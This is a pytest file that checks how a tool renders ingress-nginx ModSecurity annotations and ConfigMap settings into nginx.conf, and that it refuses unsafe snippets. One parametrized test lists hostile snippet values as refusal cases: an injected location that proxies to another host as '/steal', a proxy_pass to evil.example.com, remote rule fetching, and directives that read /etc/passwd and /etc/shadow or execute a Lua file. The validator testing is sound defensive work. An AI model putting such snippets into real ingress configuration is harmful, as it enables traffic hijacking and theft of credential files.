"""ModSecurity's annotations and ConfigMap keys, from the manifests to nginx.conf: what is loaded where, that the
WAF of one Ingress touches only its own profile, and that a modsecurity-snippet stays ModSecurity configuration.
What ModSecurity then does to requests: tests/integration/nginx/test_modsecurity.py."""
from __future__ import annotations

import difflib

import pytest

from services.nginxconf.modsecurity import log_files
from services.nginxconf.render import render
from services.syncer.nginx_apply.modsecurity_logs import create_missing_logs
from tests.support.model_cluster import Cluster

SNIPPETS_ALLOWED = {"allow-snippet-annotations": "true", "annotations-risk-level": "Critical"}
MODULE = "load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;"


def _cluster(configmap: dict[str, str] | None = None) -> Cluster:
    cluster = Cluster()
    cluster.ingress_class()
    cluster.configmap({**SNIPPETS_ALLOWED, **(configmap or {})})
    cluster.app("plain", host="plain.example.com")
    return cluster


def _conf(cluster: Cluster) -> str:
    return render(cluster.build(configmap="ingress/ingress-nginx-controller").config)


def test_without_modsecurity_the_module_is_not_loaded():
    assert "modsecurity" not in _conf(_cluster())


def test_enabling_the_waf_for_one_ingress_changes_only_its_own_profile():
    cluster = _cluster()
    cluster.app("shop", host="shop.example.com", annotations={"proxy-read-timeout": "30"})
    before = _conf(cluster)
    cluster.app("shop", host="shop.example.com", annotations={"proxy-read-timeout": "30", "enable-modsecurity": "true",
                                                              "enable-owasp-core-rules": "true"})
    after = _conf(cluster)
    added = [line for line in difflib.ndiff(before.splitlines(), after.splitlines()) if line.startswith(("+ ", "- "))]
    removed = [line for line in added if line.startswith("- ")]
    # The module, and the new profile in place of the old one (a profile is named by its settings): no other line
    # of nginx.conf changes.
    assert f"+ {MODULE}" in added
    [old_profile] = {line.split("@profile_")[1].split()[0] for line in removed if "location @profile_" in line}
    assert all(old_profile in line for line in removed), removed
    assert sum(line.strip().endswith("modsecurity on;") for line in added) == 1
    crs = [line for line in added if "modsecurity_rules " in line]
    assert len(crs) == 1 and "Include /usr/share/modsecurity-crs/rules/*.conf" in crs[0]
    assert "SecAuditLog /var/log/modsec_audit.log" in crs[0]


def test_the_configmap_enables_it_everywhere_but_where_an_ingress_turns_it_off():
    cluster = _cluster({"enable-modsecurity": "true", "enable-owasp-modsecurity-crs": "true"})
    cluster.app("legacy", host="legacy.example.com", annotations={"enable-modsecurity": "false"})
    conf = _conf(cluster)
    # The rules are parsed once at the http level; the locations only turn the engine on.
    [http_rules] = [line for line in conf.splitlines() if line.startswith("    modsecurity_rules ")]
    assert "Include /etc/nginx/modsecurity.conf" in http_rules and "crs-setup.conf" in http_rules
    profiles = conf.split("location @profile_")[1:]
    assert sum("modsecurity on;" in p for p in profiles) == len(profiles) - 1
    assert MODULE in conf


def test_a_snippet_replaces_the_recommended_rules_and_starts_from_detection_only():
    cluster = _cluster()
    cluster.app("shop", host="shop.example.com", annotations={
        "enable-modsecurity": "true", "modsecurity-transaction-id": "$request_id",
        "modsecurity-snippet": 'SecRuleEngine On\nSecRule ARGS:debug "@streq 1" \\\n    "id:10001,phase:1,deny,status:403"'})
    conf = _conf(cluster)
    [rules] = [line.strip() for line in conf.splitlines() if "modsecurity_rules " in line]
    # One nginx line, the snippet's quotes escaped and its line ends nginx's \n escapes.
    assert rules == ('modsecurity_rules "SecRuleEngine DetectionOnly\\nSecRuleEngine On\\nSecRule ARGS:debug '
                     '\\"@streq 1\\" \\\\\\n    \\"id:10001,phase:1,deny,status:403\\"";')
    assert 'modsecurity_transaction_id "$request_id";' in conf


def test_ingress_nginx_s_rule_files_included_by_a_snippet_are_debian_s():
    cluster = _cluster()
    cluster.app("shop", host="shop.example.com", annotations={
        "enable-modsecurity": "true", "modsecurity-snippet": "Include /etc/nginx/modsecurity/modsecurity.conf\n"
                                                            "Include /etc/nginx/owasp-modsecurity-crs/nginx-modsecurity.conf\n"
                                                            "SecRuleEngine On"})
    [rules] = [line for line in _conf(cluster).splitlines() if "modsecurity_rules " in line]
    assert "Include /etc/nginx/modsecurity.conf\\nSecAuditLog /var/log/modsec_audit.log" in rules
    assert "Include /usr/share/modsecurity-crs/rules/*.conf" in rules


@pytest.mark.parametrize("snippet, says", [
    ("Include /etc/passwd", "a snippet may include only ingress-nginx's rule files"),
    ('SecRuleEngine On\n";\n}\nlocation /steal { proxy_pass http://10.0.0.1; }',
     "is not a ModSecurity directive a snippet may use"),
    ("proxy_pass http://evil.example.com;", "is not a ModSecurity directive a snippet may use"),
    ("SecRemoteRules key https://rules.example.com/r.conf", "is not a ModSecurity directive a snippet may use"),
    ("SecUnicodeMapFile /etc/shadow 20127", "is not a ModSecurity directive a snippet may use"),
    ('SecRule ARGS "@pmFromFile /etc/shadow" "id:1,deny"', "reads files, queries the network or runs a program"),
    ('SecRule ARGS "@rx x" "id:1,pass,exec:/tmp/x.lua"', "reads files, queries the network or runs a program"),
    ("SecAuditLog /dev/stdout", "must be a file under /var/log/"),
    ("SecDebugLog /etc/cron.d/x", "must be a file under /var/log/"),
    ("SecAuditLogType Concurrent", "only Serial is taken"),
])
def test_a_snippet_that_is_not_plain_modsecurity_configuration_is_refused_with_the_reason(snippet, says):
    cluster = _cluster()
    cluster.app("shop", host="shop.example.com", annotations={"enable-modsecurity": "true",
                                                              "modsecurity-snippet": snippet})
    model = cluster.build(configmap="ingress/ingress-nginx-controller")
    reason = Cluster.set_aside(model, "modsecurity-snippet", snippet, ingress="default/shop")
    assert says in reason
    assert snippet.splitlines()[0] not in render(model.config)


def test_the_transaction_id_is_one_of_the_request_id_variables():
    cluster = _cluster()
    cluster.app("shop", host="shop.example.com", annotations={"enable-modsecurity": "true",
                                                              "modsecurity-transaction-id": "$http_cookie"})
    reason = Cluster.set_aside(cluster.build(configmap="ingress/ingress-nginx-controller"),
                               "modsecurity-transaction-id", "$http_cookie", ingress="default/shop")
    assert "$request_id" in reason


@pytest.mark.parametrize("key, value, says", [
    ("modsecurity-snippet", "Include /etc/passwd", "a snippet may include only ingress-nginx's rule files"),
    ("enable-modsecurity", "yes please", 'must be "true" or "false"'),
])
def test_a_bad_configmap_value_is_reported_and_not_rendered(key, value, says):
    model = _cluster({"enable-modsecurity": "true", key: value}).build(configmap="ingress/ingress-nginx-controller")
    assert any(key in line and says in line for line in model.problem_lines()), model.problem_lines()
    assert "/etc/passwd" not in render(model.config)


def test_the_logs_the_rules_name_are_known_before_nginx_opens_them():
    cluster = _cluster({"enable-modsecurity": "true"})
    cluster.app("shop", host="shop.example.com", annotations={
        "enable-modsecurity": "true", "modsecurity-snippet": "SecAuditEngine On\nSecAuditLog /var/log/shop_audit.log\n"
                                                            "SecDebugLog /var/log/shop_debug.log"})
    cluster.app("off", host="off.example.com", annotations={"enable-modsecurity": "false",
                                                            "modsecurity-snippet": "SecDebugLog /var/log/unused.log"})
    config = cluster.build(configmap="ingress/ingress-nginx-controller").config
    assert log_files(config) == {"/var/log/modsec_audit.log", "/var/log/shop_audit.log", "/var/log/shop_debug.log"}
    assert log_files(_cluster().build(configmap="ingress/ingress-nginx-controller").config) == set()


def test_a_missing_log_is_created_root_only_and_an_existing_one_is_left_alone(tmp_path):
    kept = tmp_path / "kept.log"
    kept.write_text("earlier entries\n")
    kept.chmod(0o640)
    (tmp_path / "link.log").symlink_to(tmp_path / "elsewhere")
    create_missing_logs([str(tmp_path / "new.log"), str(kept), str(tmp_path / "link.log")])
    assert (tmp_path / "new.log").stat().st_mode & 0o777 == 0o600
    assert kept.read_text() == "earlier entries\n" and kept.stat().st_mode & 0o777 == 0o640
    assert not (tmp_path / "elsewhere").exists()
